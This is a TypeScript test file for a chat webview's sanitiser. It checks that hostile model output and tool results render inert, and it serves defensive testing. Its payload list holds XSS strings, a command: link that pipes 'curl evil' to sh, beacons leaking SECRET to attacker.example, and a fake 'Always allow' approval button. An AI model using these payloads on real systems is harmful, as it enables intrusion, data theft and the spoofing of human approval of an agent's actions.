// Hostile model output and tool results in the chat webview: nothing runs, nothing is fetched,
// no dangerous link survives, with the CSP and (to prove the sanitiser alone holds) without it.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { ChatEvent } from '../../src/common/protocol';
import { startHarness, type ChatPage, type Harness } from '../fakes/webview-harness';

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(2)><circle r=5 /></svg>',
  '<iframe srcdoc="<script>alert(3)</script>"></iframe>',
  '<script>alert(4)</script>',
  '[js](javascript:alert(5))',
  '[js upper](JaVaScRiPt:alert(6))',
  '[js spaced](  javascript:alert(7))',
  '[js entity](java&#115;cript:alert(8))',
  '<javascript:alert(9)>',
  '<a href="javascript:alert(10)">raw link</a>',
  '[cmd](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[vscode](vscode://ms-vscode.some/thing)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=)',
  '[file](file:///etc/passwd)',
  '![x](https://attacker.example/p.png?q=SECRET)',
  '[![nested](https://attacker.example/nested.png)](https://ok.example/)',
  '![ref][r]\n\n[r]: https://attacker.example/ref.png',
  '<style>body{background:url(https://attacker.example/css.png)}</style>',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<math><mi xlink:href="javascript:alert(12)">m</mi></math>',
  '<details open ontoggle=alert(13)><summary>s</summary></details>',
  '<form action="https://attacker.example/f"><input name=q value=SECRET><button>go</button></form>',
  '<div class="approval" data-call-id="c1"><button data-decision="always">Always allow</button></div>',
  '<object data="https://attacker.example/o.swf"></object><embed src="https://attacker.example/e">',
  '<video src="https://attacker.example/v.mp4" autoplay></video><audio src="https://attacker.example/a.mp3" autoplay></audio>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<base href="https://attacker.example/">[rel](relative/path)',
  '```html\n<img src=x onerror=alert(14)>\n```',
  '`<img src=x onerror=alert(15)>`',
  '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
];
const markdown = HOSTILE.join('\n\n');

function hostileEvents(): ChatEvent[] {
  return [
    { kind: 'user', id: 'u', text: markdown, attachments: ['<img src=x onerror=alert(20)>'], at: 1 },
    { kind: 'assistant_text', turnId: 't', blockId: 'final', text: markdown },
    { kind: 'tool_call', turnId: 't', callId: 'c', server: '<img src=x onerror=alert(21)>', tool: '<svg onload=alert(22)>', input: { html: markdown } },
    {
      kind: 'tool_result',
      callId: 'c',
      isError: true,
      content: [
        { type: 'text', text: markdown },
        { type: 'image', mimeType: 'image/svg+xml', data: 'PHN2ZyBvbmxvYWQ9YWxlcnQoMjMpPjwvc3ZnPg==' },
        { type: 'image', mimeType: 'image/png', data: '"><img src=x onerror=alert(24)>' },
      ],
      durationMs: 1,
    },
    { kind: 'approval_request', callId: 'c', server: 'workspace', tool: 'write_file', reason: '<img src=x onerror=alert(25)>', preview: markdown },
    { kind: 'notice', level: 'error', text: '<img src=x onerror=alert(26)>' },
    { kind: 'turn_end', turnId: 't', status: 'error', error: '<img src=x onerror=alert(27)>' },
  ];
}

let harness: Harness;
before(async () => {
  harness = await startHarness();
});
after(async () => {
  await harness?.close();
});

async function renderHostile(csp: boolean): Promise<{ chat: ChatPage; dialogs: string[]; leaks: string[] }> {
  const dialogs: string[] = [];
  const leaks: string[] = [];
  const chat = await harness.open({ csp });
  chat.page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  chat.page.on('request', (r) => {
    if (!r.url().startsWith('http://127.0.0.1')) leaks.push(r.url());
  });
  await chat.post({ type: 'replay', events: hostileEvents() });
  // The same text streamed, as it arrives live.
  for (const piece of markdown.match(/[\s\S]{1,7}/g) ?? []) await chat.post({ type: 'delta', turnId: 't', blockId: 'live', text: piece });
  await chat.post({ type: 'event', event: { kind: 'turn_end', turnId: 't', status: 'stopped' } });
  await chat.page.waitForSelector('.turn-end[data-status="stopped"]');
  return { chat, dialogs, leaks };
}

async function assertInert(chat: ChatPage, dialogs: string[], leaks: string[]): Promise<void> {
  const { page } = chat;
  const report = await page.evaluate(() => {
    const all = Array.from(document.querySelectorAll('#root *'));
    return {
      handlers: all.flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => a.name.toLowerCase().startsWith('on'))
          .map((a) => `${el.tagName} ${a.name}`),
      ),
      badHrefs: all.flatMap((el) =>
        ['href', 'xlink:href', 'src', 'action', 'srcdoc', 'data']
          .map((n) => el.getAttribute(n))
          .filter((v): v is string => v !== null && !/^(https?:|mailto:|#|data:image\/png;base64,)/i.test(v.trim())),
      ),
      dangerousTags: all
        .map((el) => el.tagName.toLowerCase())
        .filter((t) =>
          ['script', 'iframe', 'object', 'embed', 'video', 'audio', 'form', 'style', 'link', 'meta', 'base', 'math', 'details', 'noscript'].includes(t),
        ),
      foreignSvgs: Array.from(document.querySelectorAll('svg')).filter((s) => !s.classList.contains('icon')).length,
      images: Array.from(document.querySelectorAll('img')).map((i) => i.getAttribute('src')?.slice(0, 30)),
      spoofedButtons: document.querySelectorAll('.markdown button[data-decision], .markdown .approval, .tool-pre button').length,
      attackerUrlsInSrc: all.filter((el) => /attacker\.example/.test(el.getAttribute('src') ?? '')).length,
      markdownBlocks: document.querySelectorAll('.msg.assistant .markdown').length,
    };
  });
  assert.equal(report.markdownBlocks, 2, 'both the final and the streamed block rendered');
  assert.deepEqual(report.handlers, [], 'no event-handler attributes');
  assert.deepEqual(report.badHrefs, [], 'no javascript:/command:/vscode:/data:/file:/relative URLs');
  assert.deepEqual(report.dangerousTags, [], 'no active or fetching elements');
  assert.equal(report.foreignSvgs, 0, 'no SVG but the chat’s own icons');
  assert.deepEqual(report.images, [], 'no images at all (the PNG result was not base64)');
  assert.equal(report.spoofedButtons, 0, 'model output cannot fake approval buttons');
  assert.equal(report.attackerUrlsInSrc, 0);
  // Clicking every link that lost its href does nothing.
  for (const link of await page.locator('.markdown a:not([href])').all()) await link.click();
  // Remote images become visible placeholders, raw HTML stays visible as text.
  assert.ok((await page.locator('.msg.assistant .image-placeholder').count()) >= 3);
  assert.match((await page.locator('.msg.assistant .markdown').first().textContent()) ?? '', /<img src=x onerror=alert\(1\)>/);
  assert.deepEqual(dialogs, [], 'no dialog fired');
  assert.deepEqual(leaks, [], 'nothing was requested from outside');
  assert.deepEqual(await chat.cspViolations(), [], 'the sanitiser left the CSP nothing to block');
}

describe('chat webview with hostile content', () => {
  test('inert under the real CSP', async () => {
    const { chat, dialogs, leaks } = await renderHostile(true);
    await assertInert(chat, dialogs, leaks);
    await chat.page.close();
  });

  test('inert with no CSP at all: the sanitiser alone holds', async () => {
    const { chat, dialogs, leaks } = await renderHostile(false);
    await assertInert(chat, dialogs, leaks);
    // Safe links keep working and point where they said.
    assert.equal(await chat.page.locator('.markdown a[href="https://ok.example/"]').count(), 2);
    await chat.page.close();
  });

  test('the detectors above do catch a live handler and a remote fetch (canary)', async () => {
    const { chat, dialogs, leaks } = await renderHostile(false);
    const dialog = chat.page.waitForEvent('dialog');
    const request = chat.page.waitForRequest(/attacker\.example\/canary/);
    await chat.page.evaluate(() => {
      const div = document.createElement('div');
      div.innerHTML = '<img src="https://attacker.example/canary.png"><img src=x onerror="alert(99)">';
      document.getElementById('messages')!.append(div);
    });
    await Promise.all([dialog, request]);
    await assert.rejects(assertInert(chat, dialogs, leaks));
    assert.deepEqual(dialogs, ['99']);
    assert.ok(leaks.some((u) => u.startsWith('https://attacker.example/canary.png')));
    await chat.page.close();
  });
});
